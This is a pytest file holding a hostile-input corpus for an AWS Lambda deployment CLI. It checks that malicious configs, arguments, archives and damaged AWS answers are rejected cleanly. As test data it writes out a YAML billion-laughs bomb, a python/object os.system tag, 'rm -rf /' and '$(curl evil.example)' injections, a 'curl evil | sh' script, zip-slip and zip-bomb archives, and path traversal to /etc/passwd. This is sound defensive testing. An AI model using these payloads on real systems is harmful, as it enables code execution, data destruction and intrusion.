"""Hostile input corpus: configs, artifacts, CLI arguments and AWS answers an attacker (or an accident) sends.

Every case runs the real CLI (`pipeline.cli.main`) and must end with exit 2 (bad input) or 1 (a failed
operation), exactly ONE line on stderr that says what was wrong, no traceback, and no write call to AWS.
Offline cases (configs, arguments, artifacts) must make no AWS call at all; the AWS-answer cases run on a
bootstrapped emulator where botocore `after-call` hooks damage one answer, and may only read.

The unit-level checks these build on: tests/config/test_corpus.py (28 broken config files),
tests/artifact/test_artifact_checks.py (each artifact check), tests/infra/test_policy_lint.py.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import stat
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from botocore.response import StreamingBody
from helpers import REPO

from pipeline.cli import main

# -- the runner ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    argv: tuple[str, ...]
    code: int  # 2: bad input, 1: the operation failed
    message: str  # regex the one stderr line must match (searched after "pipeline: error: ")
    setup: Callable[[Path], None] | None = None  # prepares files under the working directory
    hooks: tuple[tuple[str, Callable[..., None]], ...] = field(default=())  # AWS cases: botocore event hooks


def run_case(case: Case, cwd: Path, capsys: Any) -> str:
    if case.setup is not None:
        case.setup(cwd)
    capsys.readouterr()
    try:
        code = main(list(case.argv))
    except SystemExit as exc:  # argparse's usage errors (cli._Parser: one line, exit 2)
        code = exc.code
    out = capsys.readouterr()
    lines = out.err.splitlines()
    assert "Traceback" not in out.err + out.out
    assert code == case.code, f"exit {code}, expected {case.code}; stderr: {out.err[-2000:]}"
    assert len(lines) == 1, f"expected one stderr line, got {len(lines)}: {out.err[:3000]}"
    line = lines[0]
    assert line.startswith("pipeline: error: "), line
    assert len(line) < 1000, f"stderr line of {len(line)} characters"
    assert re.search(case.message, line), f"{line!r} does not match {case.message!r}"
    return line


# -- helpers to make hostile files -----------------------------------------------------------------


def write(name: str, text: str | bytes) -> Callable[[Path], None]:
    def setup(cwd: Path) -> None:
        path = cwd / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_symlink() or path.exists():
            path.unlink()
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text)

    return setup


def edit(name: str, old: str, new: str) -> Callable[[Path], None]:
    def setup(cwd: Path) -> None:
        path = cwd / name
        text = path.read_text()
        assert old in text, (name, old)
        path.write_text(text.replace(old, new, 1))

    return setup


def symlink(name: str, to: str) -> Callable[[Path], None]:
    def setup(cwd: Path) -> None:
        (cwd / name).unlink(missing_ok=True)
        (cwd / name).symlink_to(to)

    return setup


def fifo(name: str) -> Callable[[Path], None]:
    def setup(cwd: Path) -> None:
        (cwd / name).unlink(missing_ok=True)
        os.mkfifo(cwd / name)

    return setup


def directory(name: str) -> Callable[[Path], None]:
    def setup(cwd: Path) -> None:
        path = cwd / name
        if path.is_file() or path.is_symlink():
            path.unlink()
        path.mkdir(parents=True, exist_ok=True)

    return setup


def sparse(name: str, size: int) -> Callable[[Path], None]:
    def setup(cwd: Path) -> None:
        with open(cwd / name, "wb") as fh:
            fh.truncate(size)

    return setup


def both(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def setup(cwd: Path) -> None:
        for step in steps:
            step(cwd)

    return setup


PIPELINE = "environments/pipeline.yml"
DEV = "environments/dev.yml"
DEV_OK = 'account: "111111111111"\n'
BILLION_LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]\n" for i in range(1, 9)) + 'account: "111111111111"\n'

# -- artifacts -------------------------------------------------------------------------------------

EM_X86_64, EM_AARCH64 = 62, 183
REG_755 = stat.S_IFREG | 0o755
LNK = stat.S_IFLNK | 0o777


def elf(machine: int = EM_X86_64, elf_class: int = 2) -> bytes:
    ident = b"\x7fELF" + bytes([elf_class, 1, 1, 0]) + b"\0" * 8
    return ident + struct.pack("<HHI", 2, machine, 1) + b"\0" * 108


def zip_bytes(entries: list[tuple[str, bytes, int]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        warnings.simplefilter("ignore")  # the duplicate-entry case is on purpose
        for name, data, mode in entries:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.create_system = 3
            info.external_attr = mode << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


def declared_size(data: bytes, size: int) -> bytes:
    """A zip bomb's central directory: every entry claims `size` uncompressed bytes."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at != -1:
        struct.pack_into("<I", out, at + 24, size)
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def tar_bytes() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("bootstrap")
        payload = elf()
        info.size, info.mode = len(payload), 0o755
        tf.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


def artifact(data: bytes | Callable[[Path], None], name: str = "greeter-bad.zip",
             manifest: str | None = None) -> Callable[[Path], None]:
    """The zip (bytes, or a setup making it) plus a manifest naming its real sha256 (so the zip check speaks)."""

    def setup(cwd: Path) -> None:
        path = cwd / name
        if callable(data):
            data(cwd)
        else:
            path.write_bytes(data)
        target = path.with_suffix(".json")
        if manifest is not None:
            target.write_text(manifest)
            return
        import hashlib

        from pipeline.artifact.manifest import Manifest, lambda_sha256

        digest = hashlib.sha256(path.read_bytes() if path.is_file() else b"").hexdigest()
        size = path.stat().st_size if path.is_file() else 0
        Manifest(name="greeter", sha256=digest, code_sha256=lambda_sha256(digest), size=size, unzipped_size=1,
                 architecture="x86_64", go_version="go1.26", commit="0" * 40, dirty=False, version="1",
                 build_id="b" * 20).write(target)

    return setup


GOOD_ZIP = zip_bytes([("bootstrap", elf(), REG_755)])
STAGE = ("stage", "greeter-bad.zip")

# -- the offline table ---------------------------------------------------------------------------------

OFFLINE: list[Case] = [
    # configs: bombs, size, depth, encodings, tags
    Case("yaml-billion-laughs", ("validate",), 2, r"dev\.yml:\d+: document too large: more than 100000 values",
         write(DEV, BILLION_LAUGHS)),
    Case("yaml-recursive-alias", ("validate",), 2, r"dev\.yml:1: a(\[0\])+: nested deeper than 40",
         write(DEV, "a: &x [*x]\n")),
    Case("yaml-2mb-file", ("validate",), 2, r"pipeline\.yml:1: file is too large \(2\.\d MB",
         write(PIPELINE, "# padding\n" * 200_000 + "name: greeter\n")),
    Case("yaml-300k-nested-brackets", ("validate",), 2, r"dev\.yml:1: nested deeper than 40 levels",
         write(DEV, "a: " + "[" * 300_000 + "]" * 300_000 + "\n")),
    Case("yaml-20k-nested-maps", ("validate",), 2, r"dev\.yml:1: nested deeper than 40 levels",
         write(DEV, "a: " + "{b: " * 20_000 + "1" + "}" * 20_000 + "\n")),
    Case("yaml-60-nested-blocks", ("validate",), 2, r"dev\.yml:\d+: k(\.k)+: nested deeper than 40 levels",
         write(DEV, "".join("  " * i + "k:\n" for i in range(60)) + "  " * 60 + "v: 1\n")),
    Case("yaml-latin1-bytes", ("validate",), 2, r"pipeline\.yml:2: not valid UTF-8 \(byte 0xe9",
         write(PIPELINE, b"name: greeter\nregion: us-east-1 # caf\xe9\n")),
    Case("yaml-utf16-bom", ("validate",), 2, r"dev\.yml:1: not valid UTF-8 \(byte 0xff",
         write(DEV, DEV_OK.encode("utf-16"))),
    Case("yaml-nul-byte", ("validate",), 2, r"dev\.yml:2: control character #x0000 is not allowed",
         write(DEV, DEV_OK + "\0protect: true\n")),
    Case("yaml-python-object-tag", ("validate",), 2, r"dev\.yml:2: protect: unsupported YAML tag",
         write(DEV, DEV_OK + "protect: !!python/object/apply:os.system [\"touch /tmp/pwned\"]\n")),
    Case("yaml-two-documents", ("validate",), 2, r"dev\.yml:\d+: YAML syntax error: expected a single document",
         write(DEV, DEV_OK + "---\n" + DEV_OK)),
    Case("yaml-merge-key", ("validate",), 2, r"dev\.yml:3: top level: YAML merge keys",
         write(DEV, "base: &b {protect: true}\n" + DEV_OK + "<<: *b\n")),
    Case("env-file-links-to-dev-zero", ("validate",), 2, r"test\.yml:1: is not a regular file",
         symlink("environments/test.yml", "/dev/zero")),
    Case("env-file-is-a-fifo", ("validate",), 2, r"prod\.yml:1: is not a regular file", fifo("environments/prod.yml")),
    Case("pipeline-file-is-a-directory", ("validate",), 2, r"pipeline\.yml:1: is a directory",
         both(lambda cwd: (cwd / PIPELINE).unlink(), directory(PIPELINE))),
    Case("config-dir-is-dev-null", ("--config-dir", "/dev/null", "validate"), 2, r"/dev/null: is not a directory"),
    # names that end up in S3 keys, stack names, role ARNs and the go build's -ldflags
    Case("name-path-traversal", ("validate",), 2,
         r"pipeline\.yml:\d+: name: '\.\./\.\./etc' is not a name \(a lower-case letter",
         edit(PIPELINE, "name: greeter", 'name: "../../etc"')),
    Case("name-shell-metacharacters", ("validate",), 2,
         r"pipeline\.yml:\d+: name: 'greeter; rm -rf /' is not a name \(a lower-case letter",
         edit(PIPELINE, "name: greeter", 'name: "greeter; rm -rf /"')),
    Case("name-command-substitution", ("validate",), 2, r"name: .* is not a name \(a lower-case letter",
         edit(PIPELINE, "name: greeter", 'name: "$(curl evil.example)"')),
    Case("order-path-traversal", ("validate",), 2,
         r"pipeline\.yml:\d+: order\[1\]: '\.\./test' is not an environment name",
         edit(PIPELINE, "order: [dev, test, prod]", 'order: [dev, "../test", prod]')),
    Case("env-file-with-shell-name", ("validate",), 2, r"dev;rm -rf \.\.yml:1: environment 'dev;rm -rf \.' is not "
         r"listed", write("environments/dev;rm -rf ..yml", DEV_OK)),
    Case("deploy-role-path-traversal", ("validate",), 2, r"dev\.yml:2: deploy_role: .* is not an IAM role name",
         write(DEV, DEV_OK + 'deploy_role: "../../admin"\n')),
    Case("deploy-role-yaml-injection", ("validate",), 2, r"dev\.yml:2: deploy_role: .* is not an IAM role name",
         write(DEV, DEV_OK + 'deploy_role: "x\\nAction: \\"*\\""\n')),
    Case("external-id-newline", ("validate",), 2, r"dev\.yml:2: external_id: .* is not an external id",
         write(DEV, DEV_OK + 'external_id: "abc\\n  Evil: true"\n')),
    Case("function-env-reserved-credentials", ("validate",), 2,
         r"dev\.yml:2: function\.environment: AWS_SECRET_ACCESS_KEY is reserved",
         write(DEV, DEV_OK + "function: {environment: {AWS_SECRET_ACCESS_KEY: hunter2}}\n")),
    Case("function-env-key-metacharacters", ("validate",), 2, r"dev\.yml:2: function\.environment\.",
         write(DEV, DEV_OK + 'function: {environment: {"A;B": x}}\n')),
    Case("timezone-path-traversal", ("validate",), 2, r"dev\.yml:2: timezone: unknown time zone '\.\./\.\./",
         write(DEV, DEV_OK + 'timezone: "../../../../etc/passwd"\n')),
    Case("region-shell-metacharacters", ("validate",), 2,
         r"pipeline\.yml:\d+: region: 'us-east-1; rm -rf /' is not an AWS region name",
         edit(PIPELINE, "region: us-east-1", 'region: "us-east-1; rm -rf /"')),
    Case("smoke-path-with-space", ("validate",), 2,
         r"dev\.yml:\d+: smoke\[0\]\.path: .* is not a path that starts with /",
         write(DEV, DEV_OK + 'smoke: [{name: h, path: "/x HTTP/1.1\\r\\nHost: evil"}]\n')),
    Case("policy-whole-service", ("validate",), 2, r"grants a whole service",
         write(DEV, DEV_OK + 'function: {policy_statements: [{actions: ["s3:*"], resources: ["arn:aws:s3:::b"]}]}\n')),
    Case("policy-write-on-every-resource", ("validate",), 2, r'Resource "\*" with actions .*s3:PutObject',
         write(DEV, DEV_OK + 'function: {policy_statements: [{actions: ["s3:PutObject"], resources: ["*"]}]}\n')),
    # command-line arguments
    Case("promote-to-path", ("promote", "--to", "../prod"), 2, r"'\.\./prod'"),
    Case("promote-to-shell", ("promote", "--to", "dev; rm -rf /"), 2, r"'dev; rm -rf /'"),
    Case("artifact-not-hex", ("promote", "--to", "dev", "--artifact", "zz"), 2,
         r"--artifact: expected a sha256 or a prefix of one \(at least 7 of its 64 hex characters\), got 'zz'"),
    Case("artifact-path", ("promote", "--to", "dev", "--artifact", "../../etc/passwd"), 2,
         r"--artifact: expected a sha256 or a prefix of one"),
    Case("artifact-65-hex", ("promote", "--to", "dev", "--artifact", "a" * 65), 2,
         r"--artifact: expected a sha256 or a prefix of one"),
    Case("artifact-huge", ("promote", "--to", "dev", "--artifact", "f" * 100_000), 2,
         r"--artifact: expected a sha256 or a prefix of one .*\.\.\.'"),
    Case("rollback-to-not-hex", ("rollback", "--env", "dev", "--to", "last"), 2,
         r"--to: expected a sha256 or a prefix of one"),
    Case("unknown-flag", ("promote", "--to", "dev", "--force"), 2,
         r"unrecognized option: --force \(see `pipeline promote --help`\)"),
    Case("unknown-verb", ("deploy",), 2, r"unknown command 'deploy' \(did you mean 'promote'\?\)"),
    Case("output-format", ("--output", "xml", "status"), 2, r"argument --output: invalid choice: 'xml'"),
    Case("region-metacharacters", ("--region", "us-east-1; rm -rf /", "status"), 2,
         r"argument --region: not an AWS region name"),
    Case("history-negative-limit", ("history", "--limit", "-5"), 2, r"argument --limit: must be 1 or more"),
    Case("history-word-limit", ("history", "--limit", "lots"), 2, r"argument --limit: expected a whole number"),
    Case("unlock-without-force", ("unlock", "--env", "dev"), 2, r"add --force to confirm"),
    Case("invoke-path-without-slash", ("invoke", "--env", "dev", "--path", "health"), 2, r"--path must start with"),
    Case("event-is-a-directory", ("invoke", "--env", "dev", "--event", "ev"), 2, r"--event ev: is a directory",
         directory("ev")),
    Case("event-is-binary", ("invoke", "--env", "dev", "--event", "ev.json"), 2, r"--event ev\.json: not UTF-8",
         write("ev.json", GOOD_ZIP)),
    Case("event-is-dev-zero", ("invoke", "--env", "dev", "--event", "/dev/zero"), 2,
         r"--event /dev/zero: is not a regular file"),
    Case("event-nested-100k", ("invoke", "--env", "dev", "--event", "ev.json"), 2, r"JSON nested too deeply",
         write("ev.json", "[" * 100_000 + "]" * 100_000)),
    Case("event-is-a-list", ("invoke", "--env", "dev", "--event", "ev.json"), 2, r"must be a JSON object, got list",
         write("ev.json", "[1, 2]")),
    Case("event-over-6mb", ("invoke", "--env", "dev", "--event", "ev.json"), 2, r"larger than Lambda's 6 MB",
         sparse("ev.json", 7 * 1024 * 1024)),
    Case("sandbox-event-is-a-directory", ("sandbox", "invoke", "--event", "ev"), 2, r"--event ev: is a directory",
         directory("ev")),
    Case("sandbox-event-is-dev-zero", ("sandbox", "invoke", "--event", "/dev/zero"), 2,
         r"--event /dev/zero: is not a regular file"),
    Case("event-missing", ("invoke", "--env", "dev", "--event", "nope.json"), 2, r"--event nope\.json: file not found"),
    Case("build-version-shell", ("build", "--version", "1; rm -rf /"), 2, r"version '1; rm -rf /' must be"),
    Case("build-version-ldflags-injection", ("build", "--version", "1 -X main.commit=evil"), 2,
         r"version '1 -X main\.commit=evil' must be"),
    Case("build-dist-is-a-file", ("build", "--go-dir", str(REPO / "go-function"), "--dist", "dist", "--skip-tests",
                                  "--version", "1"), 2, r"dist: output directory is a file", write("dist", "x")),
    # artifacts handed to `stage` (checked before any AWS call)
    Case("zip-slip", STAGE, 2, r"entry '\.\./\.\./evil' climbs out",
         artifact(zip_bytes([("bootstrap", elf(), REG_755), ("../../evil", b"x", REG_755)]))),
    Case("zip-absolute-path", STAGE, 2, r"entry '/etc/cron\.d/x' has an absolute path",
         artifact(zip_bytes([("bootstrap", elf(), REG_755), ("/etc/cron.d/x", b"x", REG_755)]))),
    Case("zip-backslash-traversal", STAGE, 2, r"climbs out of the archive",
         artifact(zip_bytes([("bootstrap", elf(), REG_755), ("..\\..\\evil", b"x", REG_755)]))),
    Case("zip-symlink", STAGE, 2, r"entry 'etc' is a symlink",
         artifact(zip_bytes([("bootstrap", elf(), REG_755), ("etc", b"/etc", LNK)]))),
    Case("zip-bootstrap-symlink", STAGE, 2, r"entry 'bootstrap' is a symlink",
         artifact(zip_bytes([("bootstrap", b"/bin/sh", LNK)]))),
    Case("zip-duplicate-entry", STAGE, 2, r"entry 'bootstrap' appears more than once",
         artifact(zip_bytes([("bootstrap", elf(), REG_755), ("bootstrap", b"#!/bin/sh", REG_755)]))),
    Case("zip-bomb-declared-4gb", STAGE, 2, r"unzipped size is 4096\.0 MB .* over Lambda's 250 MB",
         artifact(declared_size(GOOD_ZIP, 0xFFFFFFFF))),
    Case("zip-over-50mb", STAGE, 2, r"over Lambda's 50 MB direct-upload limit",
         artifact(sparse("greeter-bad.zip", 51 * 1024 * 1024))),
    Case("elf-arm64-for-x86", STAGE, 2, r"'bootstrap' is built for AArch64, not x86-64",
         artifact(zip_bytes([("bootstrap", elf(EM_AARCH64), REG_755)]))),
    Case("elf-32-bit", STAGE, 2, r"'bootstrap' is not a 64-bit ELF",
         artifact(zip_bytes([("bootstrap", elf(elf_class=1), REG_755)]))),
    Case("bootstrap-is-a-script", STAGE, 2, r"'bootstrap' is not an ELF executable",
         artifact(zip_bytes([("bootstrap", b"#!/bin/sh\ncurl evil | sh\n" + b" " * 64, REG_755)]))),
    Case("tar-renamed-zip", STAGE, 2, r"greeter-bad\.zip: not a zip file", artifact(tar_bytes())),
    Case("truncated-zip", STAGE, 2, r"not a (readable )?zip", artifact(GOOD_ZIP[: len(GOOD_ZIP) // 2])),
    Case("zip-is-a-directory", STAGE, 2, r"artifact is not a regular file", artifact(directory("greeter-bad.zip"))),
    Case("zip-links-to-dev-zero", STAGE, 2, r"artifact is not a regular file",
         artifact(symlink("greeter-bad.zip", "/dev/zero"))),
    Case("manifest-not-json", STAGE, 2, r"greeter-bad\.json.*(not|JSON)", artifact(GOOD_ZIP, manifest="{not json")),
    Case("manifest-is-a-list", STAGE, 2, r"greeter-bad\.json", artifact(GOOD_ZIP, manifest="[]")),
    Case("manifest-for-other-bytes", STAGE, 2, r"sha256 [0-9a-f]{64} does not match the manifest's",
         artifact(GOOD_ZIP, manifest=json.dumps({
             "name": "greeter", "sha256": "0" * 64, "code_sha256": "A" * 43 + "=", "size": len(GOOD_ZIP),
             "unzipped_size": 1, "architecture": "x86_64", "go_version": "go1.26", "commit": "0" * 40,
             "dirty": False, "version": "1", "build_id": "b" * 20}))),
    Case("zip-without-manifest", ("stage", "nothing.zip"), 2, r"nothing\.json: manifest not found"),
]


@pytest.fixture
def offline(envdir, no_real_aws, calls):
    return calls


@pytest.mark.parametrize("case", OFFLINE, ids=[c.id for c in OFFLINE])
def test_offline_hostile_input(case: Case, offline, capsys):
    run_case(case, Path.cwd(), capsys)
    assert offline.calls == [], f"AWS calls made: {offline.calls}"


# -- AWS answers ------------------------------------------------------------------------------------


def drop(*keys: str, where: Callable[[dict], list[dict]] = lambda parsed: [parsed]) -> Callable[..., None]:
    """An after-call hook deleting `keys` from the parsed answer (or from each dict `where` picks)."""

    def hook(parsed: dict, **_: Any) -> None:
        for item in where(parsed):
            for key in keys:
                item.pop(key, None)

    return hook


def payload(data: bytes, function_error: str | None = None) -> Callable[..., None]:
    """An after-call hook replacing what the function answered."""

    def hook(parsed: dict, **_: Any) -> None:
        parsed["Payload"] = StreamingBody(io.BytesIO(data), len(data))
        if function_error:
            parsed["FunctionError"] = function_error

    return hook


def set_field(key: str, value: Any) -> Callable[..., None]:
    def hook(parsed: dict, **_: Any) -> None:
        parsed[key] = value

    return hook


def looping_token(parsed: dict, **_: Any) -> None:
    """A service that hands back the same continuation token on every page (with first_page_again)."""
    parsed["IsTruncated"], parsed["NextContinuationToken"] = True, "same-token-again"


def first_page_again(params: dict, **_: Any) -> None:
    params.pop("ContinuationToken", None)  # so the emulator serves the first page again instead of a 500


GFC = "after-call.lambda.GetFunctionConfiguration"
INVOKE = "after-call.lambda.Invoke"
ASSUME = "after-call.sts.AssumeRole"
LIST = "after-call.s3.ListObjectsV2"
HEAD = "after-call.s3.HeadObject"
INVOKE_DEV = ("invoke", "--env", "dev")

AWS_ANSWERS: list[Case] = [
    Case("gfc-without-codesha256-promote", ("promote", "--to", "dev"), 1,
         r"AWS answered lambda GetFunctionConfiguration without 'CodeSha256'", hooks=((GFC, drop("CodeSha256")),)),
    Case("gfc-without-codesha256-status", ("status",), 1, r"without 'CodeSha256'", hooks=((GFC, drop("CodeSha256")),)),
    Case("gfc-without-codesha256-verify", ("verify",), 1, r"without 'CodeSha256'", hooks=((GFC, drop("CodeSha256")),)),
    Case("gfc-codesha256-garbage", ("promote", "--to", "dev"), 1, r"CodeSha256 .* is not a base64 sha256",
         hooks=((GFC, set_field("CodeSha256", "not-a-digest!")),)),
    Case("assume-role-without-credentials", ("status",), 1, r"AWS answered sts AssumeRole without 'Credentials'",
         hooks=((ASSUME, drop("Credentials")),)),
    Case("assume-role-without-user", ("promote", "--to", "dev"), 1, r"sts AssumeRole without 'AssumedRoleUser'",
         hooks=((ASSUME, drop("AssumedRoleUser")),)),
    Case("assume-role-without-secret", ("history",), 1, r"sts AssumeRole without 'SecretAccessKey'",
         hooks=((ASSUME, drop("SecretAccessKey", where=lambda p: [p.get("Credentials", {})])),)),
    Case("list-objects-without-key", ("history", "--env", "dev"), 1, r"s3 ListObjectsV2 without 'Key'",
         hooks=((LIST, drop("Key", where=lambda p: p.get("Contents", []))),)),
    Case("list-objects-looping-token", ("history", "--env", "dev"), 1, r"continuation token it already gave",
         hooks=((LIST, looping_token), ("before-parameter-build.s3.ListObjectsV2", first_page_again))),
    Case("head-object-without-length", ("verify",), 1, r"s3 HeadObject without 'ContentLength'",
         hooks=((HEAD, drop("ContentLength")),)),
    Case("invoke-without-payload", INVOKE_DEV, 1, r"lambda Invoke without 'Payload'",
         hooks=((INVOKE, drop("Payload")),)),
    Case("function-malformed-json", INVOKE_DEV, 1, r"greeter-dev:live answered something that is not an HTTP .*"
         r"not JSON", hooks=((INVOKE, payload(b'{"statusCode": 200, "body": ')),)),
    Case("function-status-is-a-string", INVOKE_DEV, 1, r"statusCode must be an HTTP status, got '200'",
         hooks=((INVOKE, payload(b'{"statusCode": "200"}')),)),
    Case("function-status-out-of-range", INVOKE_DEV, 1, r"statusCode must be an HTTP status, got 99999",
         hooks=((INVOKE, payload(b'{"statusCode": 99999}')),)),
    Case("function-headers-not-object", INVOKE_DEV, 1, r"headers must be an object",
         hooks=((INVOKE, payload(b'{"statusCode": 200, "headers": ["x"]}')),)),
    Case("function-body-not-string", INVOKE_DEV, 1, r"body must be a string",
         hooks=((INVOKE, payload(b'{"statusCode": 200, "body": {"a": 1}}')),)),
    Case("function-bad-base64", INVOKE_DEV, 1, r"marked base64 but is not",
         hooks=((INVOKE, payload(b'{"statusCode": 200, "body": "%%%", "isBase64Encoded": true}')),)),
    Case("function-not-utf8", INVOKE_DEV, 1, r"not JSON",
         hooks=((INVOKE, payload(b'{"statusCode": 200, "b\xff": 1}')),)),
    Case("function-nested-100k", INVOKE_DEV, 1, r"nested too deeply",
         hooks=((INVOKE, payload(b"[" * 100_000 + b"]" * 100_000)),)),
    Case("function-huge-garbage", INVOKE_DEV, 1, r"not an HTTP .*not JSON",
         hooks=((INVOKE, payload(b"x" * (6 * 1024 * 1024))),)),
    Case("function-error-multiline", INVOKE_DEV, 1, r"a function error \(Unhandled\): line one line two",
         hooks=((INVOKE, payload(b'{"errorMessage": "line one\\nline two\\n\\tat main.go:1"}', "Unhandled")),)),
]


@pytest.fixture(scope="module")
def deployed(emulator, built, tmp_path_factory):
    """tooling + dev bootstrapped, the real artifact promoted to dev: a world the AWS-answer cases only read."""
    with pytest.MonkeyPatch.context() as mp:
        emulator.reset()
        for key in ("AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_SESSION_TOKEN"):
            mp.delenv(key, raising=False)
        for key, value in emulator.environment().items():
            mp.setenv(key, value)
        root = tmp_path_factory.mktemp("hostile-aws")
        shutil.copytree(REPO / "environments", root / "environments")
        mp.chdir(root)
        for argv in (["bootstrap", "--tooling"], ["bootstrap", "--env", "dev"], ["stage", str(built[0])],
                     ["promote", "--to", "dev"]):
            assert main(argv) == 0, argv
        yield root


@pytest.mark.parametrize("case", AWS_ANSWERS, ids=[c.id for c in AWS_ANSWERS])
def test_hostile_aws_answers(case: Case, deployed, emulator, calls, capsys, monkeypatch):
    for key, value in emulator.environment().items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(deployed)
    from pipeline.aws import session as session_module

    original = session_module.SessionFactory.__init__

    def with_hooks(self, *args, **kwargs):
        kwargs["event_hooks"] = [*(kwargs.get("event_hooks") or []), *case.hooks]
        original(self, *args, **kwargs)

    monkeypatch.setattr(session_module.SessionFactory, "__init__", with_hooks)
    run_case(case, deployed, capsys)
    # `invoke` is the command under test in the function-answer cases: it is the only call allowed to "write"
    assert [w for w in calls.writes if w != ("lambda", "Invoke")] == [], calls.writes
    assert calls.calls, "the case never reached AWS"


def test_the_corpus_is_large():
    assert len(OFFLINE) + len(AWS_ANSWERS) >= 40
    assert len({c.id for c in OFFLINE + AWS_ANSWERS}) == len(OFFLINE) + len(AWS_ANSWERS)


def test_the_deployed_world_still_verifies(deployed, emulator, capsys, monkeypatch):
    """After every damaged answer, the undamaged emulator still holds exactly what the setup promoted."""
    for key, value in emulator.environment().items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(deployed)
    capsys.readouterr()
    assert main(["verify", "--env", "dev"]) == 0, capsys.readouterr().err
